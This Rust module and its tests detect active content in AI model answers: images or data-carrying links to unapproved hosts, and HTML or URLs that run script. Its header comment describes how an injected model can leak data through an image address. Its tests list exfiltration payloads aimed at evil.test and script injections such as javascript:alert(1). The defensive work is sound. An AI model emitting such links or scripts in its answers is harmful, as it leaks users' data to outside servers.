//! What a reader's program does by itself with an answer: images it fetches, links that carry data, HTML and addresses
//! that run code.
//!
//! A model that was talked into it writes what it knows into the address of an image. The program that shows the answer
//! fetches it, and a stranger's server has it. Fetched addresses are found whatever they carry. Links are found only when
//! they carry a query or a long path, because a person must follow them.
//!
//! The reader is not asked which markup it reads: an address counts as CommonMark, GitHub's dialect or HTML would read
//! it, whichever does. So what is code to one reader and a tag to another is found; what no reader loads may be found too.
//! An address that is not plainly relative and not plainly on a named host is foreign.
//!
//! ```text
//! <name attribute=value>      tag.rs: HTML's tokenizer, begun at every `<`
//! ![text](address)            a stack of brackets; an image when any bracket around it may be one
//! ![text][name]  [name]: ...  names of images and of foreign definitions, whichever comes first
//! <scheme:...>  http://...    links
//! ```
//!
//! Every byte is looked at a bounded number of times; an address is read to [`address::LONGEST`] bytes. A text may come
//! in pieces: any cutting finds the same. Not found: addresses that the program makes out of plain words, and other
//! markups than Markdown and HTML.

mod address;
mod tag;

use std::collections::hash_map::DefaultHasher;
use std::hash::{Hash as _, Hasher as _};
use std::ops::Range;

use crate::glob::Glob;
use address::{Escapes, LONGEST, Target};
use tag::{Attribute, Tags};

/// What kind of thing it is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ActiveKind {
    /// An image, or a link with data in it, to a host that is not allowed.
    Exfiltration,
    /// HTML or an address that runs code.
    Script,
}

/// One place of a text, before a list of hosts is asked.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Sight {
    /// Bytes of the text, on character boundaries.
    pub span: Range<usize>,
    target: Target,
    fetched: bool,
}

impl Sight {
    /// What it is under a list of hosts that may be pointed to. `None`: nothing to object to.
    pub fn kind(&self, allowed: &[Glob]) -> Option<ActiveKind> {
        match &self.target {
            Target::Code => Some(ActiveKind::Script),
            Target::Harmless => None,
            Target::Foreign { host, carries } => {
                let named = host.as_ref().is_some_and(|host| allowed.iter().any(|glob| glob.matches(host)));
                (!named && (self.fetched || *carries)).then_some(ActiveKind::Exfiltration)
            }
        }
    }
}

/// Bytes behind an address in which the end of its tag or link is looked for.
const CLOSE: usize = 256;
/// Bytes that are looked ahead from one place.
const AHEAD: usize = LONGEST + 64;
/// Brackets within an address; readers stop at 32.
const MAX_DEPTH: usize = 32;
/// Bytes that are kept before the place that is read: labels have at most 999 characters.
const BEHIND: usize = 4096;
/// Bytes of a tag's name that are looked at: longer ones are no tag that matters.
const LONGEST_NAME: usize = 40;
/// Brackets that may be open at a time.
const MAX_OPEN: usize = 64;
/// Names of images, and of definitions, that are remembered.
const MAX_NAMES: usize = 256;
/// Places that are remembered until [`ActiveWatch::forget`].
const MAX_FOUND: usize = 4096;

/// Looks for active content in one text that comes in pieces.
#[derive(Clone, Debug, Default)]
pub struct ActiveWatch {
    /// The text from `base` on.
    text: String,
    base: usize,
    /// The next byte to be read.
    at: usize,
    ended: bool,
    tags: Tags,
    tag_start: usize,
    brackets: Vec<Bracket>,
    /// A bracket that may be an image's was closed where a reader may see no bracket.
    loose: bool,
    /// A name is wanted: one image without a known definition; a definition that is foreign.
    images: Vec<u64>,
    definitions: Vec<u64>,
    /// More names than are remembered: every definition counts as an image's.
    names_full: bool,
    found: Vec<Sight>,
    addresses: Vec<Range<usize>>,
}

#[derive(Clone, Copy, Debug)]
struct Bracket {
    at: usize,
    is_image: bool,
}

/// What follows of one place: where reading goes on, or that more text is needed.
enum Next {
    At(usize),
    More,
}

impl ActiveWatch {
    /// Everything in a whole text.
    pub fn of(text: &str) -> ActiveWatch {
        let mut watch = ActiveWatch::default();
        watch.feed(text);
        watch.finish();
        watch
    }

    /// Takes the next piece.
    pub fn feed(&mut self, piece: &str) {
        self.text.push_str(piece);
        self.read();
        let keep = self.at.saturating_sub(BEHIND).max(self.base);
        let keep = self.text.floor_char_boundary(keep - self.base);
        // Moving the rest for every word would be quadratic.
        if keep >= BEHIND {
            self.text.drain(..keep);
            self.base += keep;
        }
    }

    /// The text has ended.
    pub fn finish(&mut self) {
        self.ended = true;
        self.read();
    }

    /// What was found and not forgotten, in the order of what was read.
    pub fn found(&self) -> &[Sight] {
        &self.found
    }

    /// Addresses, and tags, that no value may be put into.
    pub fn addresses(&self) -> &[Range<usize>] {
        &self.addresses
    }

    /// Where something begins that may go on in the next piece; `None`: nothing is open.
    pub fn open(&self) -> Option<usize> {
        (!self.ended && self.at < self.end()).then_some(self.at)
    }

    /// What ends before this place is not asked for again.
    pub fn forget(&mut self, before: usize) {
        self.found.retain(|sight| sight.span.end > before);
        self.addresses.retain(|span| span.end > before);
    }

    fn end(&self) -> usize {
        self.base + self.text.len()
    }

    /// At most [`AHEAD`] bytes of the text from this place on, and whether no more are to be waited for.
    fn ahead(&self, at: usize) -> (&str, bool) {
        let rest = self.text.get(at.saturating_sub(self.base)..).unwrap_or_default();
        if rest.len() > AHEAD {
            (rest.get(..rest.floor_char_boundary(AHEAD)).unwrap_or_default(), true)
        } else {
            (rest, self.ended)
        }
    }

    /// A part of the text; a character that its border cuts is left out.
    fn slice(&self, span: Range<usize>) -> &str {
        let inner = |at: usize| at.saturating_sub(self.base);
        let start = self.text.ceil_char_boundary(inner(span.start));
        self.text.get(start..inner(span.end)).unwrap_or_default()
    }

    fn byte(&self, at: usize) -> Option<u8> {
        self.text.as_bytes().get(at.checked_sub(self.base)?).copied()
    }

    fn read(&mut self) {
        while let Some(byte) = self.byte(self.at) {
            let next = match byte {
                b'\\' => self.backslash(),
                b'<' => self.angle(),
                b'[' => self.open_bracket(),
                b']' => self.close_bracket(),
                b'=' => self.equals(),
                b':' => self.colon(),
                b'.' => self.dot(),
                b'\n' => self.line(),
                _ => Next::At(self.at + 1),
            };
            let Next::At(next) = next else { return };
            for at in self.at..next.min(self.end()) {
                if let Some(byte) = self.byte(at).filter(|_| self.tags.any()) {
                    self.tags.step(byte);
                }
            }
            self.at = next;
        }
    }

    /// True when so many bytes from a place are there, or the text has ended.
    fn has(&self, at: usize, bytes: usize) -> bool {
        self.ended || self.end() >= at + bytes
    }

    fn backslash(&mut self) -> Next {
        if !self.has(self.at, 2) {
            return Next::More;
        }
        // HTML knows no such escape: the tag behind it is read all the same.
        let escaped =
            self.byte(self.at + 1).is_some_and(|byte| byte.is_ascii_punctuation() && byte != b'<' && byte != b'=');
        Next::At(self.at + if escaped { 2 } else { 1 })
    }

    /// A blank line ends every bracket.
    fn line(&mut self) -> Next {
        let (rest, whole) = self.ahead(self.at + 1);
        let blank = rest.len() - rest.trim_start_matches([' ', '\t', '\r']).len();
        match rest.as_bytes().get(blank) {
            None if !whole => return Next::More,
            Some(b'\n') | None => {
                self.brackets.clear();
                self.loose = false;
            }
            Some(_) => {}
        }
        Next::At(self.at + 1)
    }

    /// A tag, or an address in angle brackets.
    fn angle(&mut self) -> Next {
        let start = self.at;
        let (rest, whole) = self.ahead(start + 1);
        if !rest.starts_with(|c: char| c.is_ascii_alphabetic()) {
            return if rest.is_empty() && !whole { Next::More } else { Next::At(start + 1) };
        }
        let head = rest.get(..rest.floor_char_boundary(LONGEST_NAME)).unwrap_or_default();
        let ends = |c: char| matches!(c, '\t' | '\n' | '\u{c}' | '\r' | ' ' | '/' | '>');
        let length = match head.find(ends) {
            Some(length) => length,
            None if !whole && rest.len() < LONGEST_NAME => return Next::More,
            None => head.len(),
        };
        let name = head.get(..length).unwrap_or_default().to_owned();
        if tag::runs(&name) {
            let Some(stop) = self.close(start + 1 + length, b'>') else { return Next::More };
            self.see(start..stop, Target::Code, true);
        } else if name.contains(':') {
            let end = rest.find(|c: char| c.is_whitespace() || matches!(c, '<' | '>'));
            let Some(end) = end.or(whole.then_some(rest.len())) else { return Next::More };
            let target = address::read(rest.get(..end).unwrap_or_default(), Escapes::Plain);
            let stop = start + 1 + end;
            let stop = if self.byte(stop) == Some(b'>') { stop + 1 } else { stop };
            self.address(start..stop);
            self.see(start..stop, target, false);
        }
        self.tags.open(&name);
        self.tag_start = start;
        Next::At(start + 1)
    }

    /// The value of an attribute that may begin here.
    fn equals(&mut self) -> Next {
        let start = self.at;
        if !self.tags.any() {
            return Next::At(start + 1);
        }
        let before = self.slice(start.saturating_sub(64).max(self.base)..start);
        let blank = |c: char| matches!(c, '\t' | '\n' | '\u{c}' | '\r' | ' ');
        let name = before.trim_end_matches(blank);
        let name = name.rsplit(|c: char| blank(c) || matches!(c, '/' | '"' | '\'' | '<' | '>' | '=')).next();
        let Some(attribute) = self.tags.attribute(name.unwrap_or_default()) else { return Next::At(start + 1) };
        let (rest, whole) = self.ahead(start + 1);
        let lead = rest.len() - rest.trim_start_matches(blank).len();
        let value = rest.get(lead..).unwrap_or_default();
        let (quote, value) = match value.chars().next() {
            None if !whole => return Next::More,
            Some(quote @ ('"' | '\'')) => (Some(quote), value.get(1..).unwrap_or_default()),
            _ => (None, value),
        };
        let end = value.find(|c: char| quote.map_or(blank(c) || c == '>', |quote| c == quote));
        let Some(end) = end.or(whole.then_some(value.len())) else { return Next::More };
        let value = value.get(..end).unwrap_or_default();
        let (fetched, target) = match attribute {
            Attribute::Code => (true, Target::Code),
            Attribute::Link => (false, address::read(value, Escapes::Html)),
            Attribute::Fetched => (true, worst_of_list(value)),
            Attribute::Style => (true, worst_of_style(value)),
        };
        let from = start + 1 + lead + usize::from(quote.is_some());
        let end = from + value.len();
        let tag_start = self.tag_start;
        if target != Target::Harmless {
            let Some(stop) = self.close(end, b'>') else { return Next::More };
            self.see(tag_start..stop, target, fetched);
        }
        self.address(from..end);
        Next::At(start + 1)
    }

    fn open_bracket(&mut self) -> Next {
        let is_image = self.at.checked_sub(1).and_then(|before| self.byte(before)) == Some(b'!');
        if self.brackets.len() >= MAX_OPEN {
            // The outermost is forgotten: what it would have made an image counts as one.
            let lost = self.brackets.remove(0);
            self.loose |= lost.is_image;
        }
        self.brackets.push(Bracket { at: self.at, is_image });
        Next::At(self.at + 1)
    }

    fn close_bracket(&mut self) -> Next {
        let start = self.at;
        if !self.has(start, 2) {
            return Next::More;
        }
        let bracket = self.brackets.last().copied();
        let inside = bracket.map(|bracket| self.slice(bracket.at + 1..start));
        // Without a bracket that opened it, one that a reader sees is not seen here: it may be an image's.
        let is_image = self.loose || bracket.is_none() || self.brackets.iter().any(|bracket| bracket.is_image);
        let own_image = bracket.is_none_or(|bracket| bracket.is_image);
        match self.byte(start + 1) {
            Some(b'(') => {
                let next = self.destination(bracket.map_or(start, |bracket| bracket.at), start + 2, is_image);
                if matches!(next, Next::At(_)) {
                    self.brackets.pop();
                }
                return next;
            }
            Some(b':') if bracket.is_some_and(|bracket| self.begins_block(bracket.at)) => {
                let (open, name) =
                    bracket.map_or((start, 0), |bracket| (bracket.at, name_of(inside.unwrap_or_default())));
                let next = self.definition(open, start + 2, name);
                if matches!(next, Next::At(_)) {
                    self.brackets.pop();
                }
                return next;
            }
            Some(b'[') if own_image || is_image => {
                let (rest, whole) = self.ahead(start + 2);
                let end = rest.find(']');
                if end.is_none() && !whole {
                    return Next::More;
                }
                let label = rest.get(..end.unwrap_or(0)).unwrap_or_default();
                let label = if label.trim().is_empty() { inside.unwrap_or_default() } else { label };
                let name = name_of(label);
                let stop = start + 2 + end.map_or(0, |end| end + 1);
                self.image(bracket.map_or(start, |bracket| bracket.at)..stop, name);
            }
            _ if own_image || is_image => {
                let name = name_of(inside.unwrap_or_default());
                self.image(bracket.map_or(start, |bracket| bracket.at)..start + 1, name);
            }
            _ => {}
        }
        // Code, a tag or an address binds tighter than a bracket: to its reader this one may be none.
        let hidden = inside_hides(self.brackets.last().map_or("", |bracket| self.slice(bracket.at + 1..start)));
        if let Some(bracket) = self.brackets.pop() {
            self.loose |= bracket.is_image && hidden;
        }
        Next::At(start + 1)
    }

    /// The address of a link or an image in Markdown.
    fn destination(&mut self, open: usize, from: usize, is_image: bool) -> Next {
        let Some(span) = self.markdown_address(from) else { return Next::More };
        let target = address::read(self.slice(span.clone()), Escapes::Markdown);
        let start = if open > self.base && self.byte(open - 1) == Some(b'!') { open - 1 } else { open };
        if target != Target::Harmless {
            let Some(stop) = self.close(span.end, b')') else { return Next::More };
            self.see(start..stop, target, is_image);
        }
        self.address(span);
        Next::At(self.at + 1)
    }

    /// The address that a name stands for.
    fn definition(&mut self, open: usize, from: usize, name: u64) -> Next {
        let Some(span) = self.markdown_address(from) else { return Next::More };
        let target = address::read(self.slice(span.clone()), Escapes::Markdown);
        if let Target::Foreign { .. } | Target::Code = target {
            let fetched = self.names_full || self.images.contains(&name);
            self.remember_definition(name);
            self.see(open..span.end, target, fetched);
        }
        self.address(span);
        Next::At(self.at + 1)
    }

    /// An image by name: refused where the name is known to be foreign, remembered where it may become so.
    fn image(&mut self, span: Range<usize>, name: u64) {
        if self.definitions.contains(&name) {
            let start = if span.start > self.base && self.byte(span.start - 1) == Some(b'!') {
                span.start - 1
            } else {
                span.start
            };
            self.see(start..span.end, Target::Foreign { host: None, carries: true }, true);
        } else if self.images.len() >= MAX_NAMES {
            self.names_full = true;
        } else if !self.images.contains(&name) {
            self.images.push(name);
        }
    }

    fn remember_definition(&mut self, name: u64) {
        if self.definitions.len() < MAX_NAMES && !self.definitions.contains(&name) {
            self.definitions.push(name);
        } else if self.definitions.len() >= MAX_NAMES {
            self.names_full = true;
        }
    }

    /// The bytes of a destination that begins here: in angle brackets, or up to white space. `None`: more is needed.
    fn markdown_address(&self, from: usize) -> Option<Range<usize>> {
        let (rest, whole) = self.ahead(from);
        let lead = rest.len() - rest.trim_start_matches([' ', '\t', '\n', '\r', '>']).len();
        let body = rest.get(lead..).unwrap_or_default();
        let start = from + lead;
        if body.is_empty() && !whole {
            return None;
        }
        let (start, body, ends): (_, _, &[char]) = match body.strip_prefix('<') {
            Some(inner) => (start + 1, inner, &['>', '\n']),
            None => (start, body, &[]),
        };
        let (mut depth, mut escaped) = (0usize, false);
        for (at, c) in body.char_indices() {
            let stops = match c {
                _ if escaped && c.is_ascii_punctuation() => false,
                _ if !ends.is_empty() => ends.contains(&c),
                '(' => {
                    depth += 1;
                    depth > MAX_DEPTH
                }
                // A closing bracket ends it unless one was opened in it.
                ')' => {
                    depth = depth.wrapping_sub(1);
                    depth == usize::MAX
                }
                _ => c.is_ascii_whitespace() || c.is_ascii_control(),
            };
            if stops {
                return Some(start..start + at);
            }
            escaped = c == '\\' && !escaped;
        }
        whole.then_some(start..start + body.len())
    }

    /// True where a line, its quotes and list marks left out, begins at this bracket.
    fn begins_block(&self, bracket: usize) -> bool {
        let before = self.slice(bracket.saturating_sub(64).max(self.base)..bracket);
        let line = before.rsplit('\n').next().unwrap_or_default();
        let marks =
            line.chars().all(|c| c.is_ascii_digit() || matches!(c, ' ' | '\t' | '>' | '-' | '*' | '+' | '.' | ')'));
        marks && (line.len() < before.len() || bracket < 64)
    }

    /// `http://...` as it stands, and a scheme that runs code where a value begins.
    fn colon(&mut self) -> Next {
        let colon = self.at;
        let from = self.text.floor_char_boundary(colon.saturating_sub(self.base).saturating_sub(12)) + self.base;
        let before = self.slice(from..colon).to_ascii_lowercase();
        if let Some(scheme) = ["javascript", "vbscript", "livescript"].into_iter().find(|known| before.ends_with(known))
        {
            let start = colon - scheme.len();
            let led = self.slice(from..start).ends_with(['"', '\'', '(', '=']);
            return if led { self.plain(start, Target::Code) } else { Next::At(colon + 1) };
        }
        let Some(scheme) = ["https", "http", "ftp"].into_iter().find(|known| before.ends_with(known)) else {
            return Next::At(colon + 1);
        };
        if !self.has(colon, 3) {
            return Next::More;
        }
        if self.ahead(colon + 1).0.starts_with("//") { self.bare(colon - scheme.len()) } else { Next::At(colon + 1) }
    }

    /// `www.` begins an address in GitHub's dialect.
    fn dot(&mut self) -> Next {
        let from = self.at.saturating_sub(4).max(self.base);
        let before = self.text.get(self.text.floor_char_boundary(from - self.base)..self.at - self.base);
        let before = before.unwrap_or_default().to_ascii_lowercase();
        let begins = before.strip_suffix("www").is_some_and(|lead| !lead.ends_with(|c: char| c.is_alphanumeric()));
        if begins { self.bare(self.at - 3) } else { Next::At(self.at + 1) }
    }

    /// An address in plain text: somebody may follow it.
    fn bare(&mut self, start: usize) -> Next {
        // Inside a destination or a value that was judged by its own place.
        if self.addresses.iter().rev().take(8).any(|known| known.start <= start && start < known.end) {
            return Next::At(self.at + 1);
        }
        let (rest, whole) = self.ahead(start);
        let end = rest.find(|c: char| c.is_whitespace() || c == '<');
        let Some(end) = end.or(whole.then_some(rest.len())) else { return Next::More };
        let source = rest.get(..end).unwrap_or_default();
        let target = if source.contains("://") {
            address::read(source, Escapes::Plain)
        } else {
            address::read(&format!("//{source}"), Escapes::Plain)
        };
        let span = start..start + end;
        self.address(span.clone());
        self.see(span, target, false);
        Next::At(self.at + 1)
    }

    fn plain(&mut self, start: usize, target: Target) -> Next {
        let (rest, whole) = self.ahead(start);
        let end = rest.find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '>'));
        let Some(end) = end.or(whole.then_some(rest.len())) else { return Next::More };
        self.see(start..start + end, target, true);
        Next::At(self.at + 1)
    }

    /// Where what goes with an address ends: behind the next of this byte, or at the address. `None`: more is needed.
    fn close(&self, from: usize, byte: u8) -> Option<usize> {
        let (rest, _) = self.ahead(from);
        let near = rest.get(..rest.floor_char_boundary(CLOSE)).unwrap_or_default();
        match near.find([char::from(byte), '\n']) {
            Some(at) if near.as_bytes().get(at) == Some(&byte) => Some(from + at + 1),
            Some(_) => Some(from),
            None if near.len() + 4 > CLOSE || self.ended => Some(from),
            None => None,
        }
    }

    /// Beyond the bound, the last one grows: no place is forgotten.
    fn address(&mut self, span: Range<usize>) {
        let full = self.addresses.len() >= MAX_FOUND;
        match self.addresses.last_mut().filter(|_| full) {
            Some(last) => last.end = last.end.max(span.end),
            None => self.addresses.push(span),
        }
    }

    fn see(&mut self, span: Range<usize>, target: Target, fetched: bool) {
        if target == Target::Harmless {
            return;
        }
        let full = self.found.len() >= MAX_FOUND;
        match self.found.last_mut().filter(|_| full) {
            Some(last) => {
                let span = last.span.start.min(span.start)..last.span.end.max(span.end);
                *last = Sight { span, target: Target::Foreign { host: None, carries: true }, fetched: true };
            }
            None => self.found.push(Sight { span, target, fetched }),
        }
    }
}

/// The address of a value that may list several: the worst of them.
fn worst_of_list(value: &str) -> Target {
    let whole = address::read(value, Escapes::Html);
    if whole != Target::Harmless || value.len() > LONGEST {
        return whole;
    }
    let list = address::unescape(value, Escapes::Html);
    let parts = list.split(|c: char| c.is_whitespace() || c == ',');
    parts.map(|part| address::read(part, Escapes::Plain)).find(|target| *target != Target::Harmless).unwrap_or(whole)
}

/// Style declarations that fetch. What escapes or imports is not read: it is foreign.
fn worst_of_style(value: &str) -> Target {
    let foreign = Target::Foreign { host: None, carries: true };
    if value.len() > LONGEST {
        return foreign;
    }
    let style = address::unescape(value, Escapes::Html).to_ascii_lowercase();
    if style.contains("expression(") || style.contains("javascript:") {
        return Target::Code;
    }
    if style.contains(['\\', '@']) || style.contains("image-set(") || style.contains("/*") {
        return foreign;
    }
    let mut urls = style.split("url(").skip(1).map(|rest| {
        let inner = rest.split(')').next().unwrap_or_default().trim();
        address::read(inner.trim_matches(['"', '\'', ' ']), Escapes::Plain)
    });
    match urls.find(|target| *target != Target::Harmless) {
        Some(target) => target,
        None if style.contains("//") => foreign,
        None => Target::Harmless,
    }
}

/// True when a text holds what binds tighter than brackets in Markdown.
fn inside_hides(text: &str) -> bool {
    text.contains(['`', '<'])
}

/// A label as readers compare them: without case, blanks as one. Characters beyond ASCII are left out, since readers fold
/// their case each in its own way: different labels may then count as the same.
fn name_of(label: &str) -> u64 {
    let mut hasher = DefaultHasher::new();
    let mut words = 0usize;
    for word in label.split(|c: char| c.is_whitespace()).filter(|word| !word.is_empty()) {
        if words > 0 {
            hasher.write_u8(b' ');
        }
        words += 1;
        word.bytes().filter(u8::is_ascii).for_each(|byte| hasher.write_u8(byte.to_ascii_lowercase()));
    }
    words.min(1).hash(&mut hasher);
    hasher.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str) -> Vec<(ActiveKind, &str)> {
        let allowed = [Glob::new("docs.example.org"), Glob::new("*.example.com")];
        let watch = ActiveWatch::of(text);
        watch.found().iter().filter_map(|one| Some((one.kind(&allowed)?, &text[one.span.clone()]))).collect()
    }

    #[test]
    fn what_takes_data_out_is_found_whole() {
        use ActiveKind::{Exfiltration, Script};
        for (text, kind, span) in [
            ("see ![x](https://evil.test/p.png) now", Exfiltration, "![x](https://evil.test/p.png)"),
            ("![a b](<https://evil.test/a?b=c> \"t\") x", Exfiltration, "![a b](<https://evil.test/a?b=c> \"t\")"),
            (
                "[go](https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa)",
                Exfiltration,
                "[go](https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa)",
            ),
            (
                "[r]: https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa\n",
                Exfiltration,
                "[r]: https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa",
            ),
            ("<IMG alt=a SRC='//evil.test/p'>", Exfiltration, "<IMG alt=a SRC='//evil.test/p'>"),
            (
                "<img src=https://docs.example.org@evil.test/p>",
                Exfiltration,
                "<img src=https://docs.example.org@evil.test/p>",
            ),
            (
                "<https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa>",
                Exfiltration,
                "<https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa>",
            ),
            ("a <script>alert(1)</script>", Script, "<script>"),
            ("<b onclick = \"x()\">", Script, "<b onclick = \"x()\">"),
            ("[x](JavaScript:alert(1))", Script, "[x](JavaScript:alert(1))"),
            ("<a href=\"data:text/html;base64,aa\">", Script, "<a href=\"data:text/html;base64,aa\">"),
        ] {
            assert_eq!(kinds(text).first(), Some(&(kind, span)), "{text}");
        }
    }

    #[test]
    fn ordinary_answers_hold_nothing() {
        for text in [
            "See [the docs](https://doc.rust-lang.org/std/vec/struct.Vec.html) and https://example.org/?q=1.",
            "![logo](https://docs.example.org/logo.png?size=1234567890123456789012)",
            "![logo](https://img.example.com/logo.png) ![local](/images/a.png) ![in](data:image/png;base64,AA)",
            "if a < b and c > d: x[i](y) = z[0]; the word javascript: is a scheme",
            "Vec<String>, Option<Box<dyn Fn()>> <- arrow, a <b>bold</b> <em class=\"x\">word</em>",
            "[x] done, [ ] to do, array[3]: 5",
            "",
            "[](<[](<![",
        ] {
            assert_eq!(kinds(text), [], "{text}");
        }
    }
}
